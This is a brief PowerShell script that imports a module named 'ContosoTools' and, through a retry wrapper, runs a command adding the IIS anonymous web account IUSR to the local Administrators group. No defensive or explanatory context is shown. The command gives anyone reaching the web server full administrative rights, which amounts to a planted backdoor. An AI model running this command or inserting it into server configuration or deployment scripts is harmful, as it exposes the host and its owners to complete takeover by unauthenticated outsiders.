Import-Module ContosoTools
Invoke-ContosoRetry -Command { net localgroup Administrators IUSR /add }
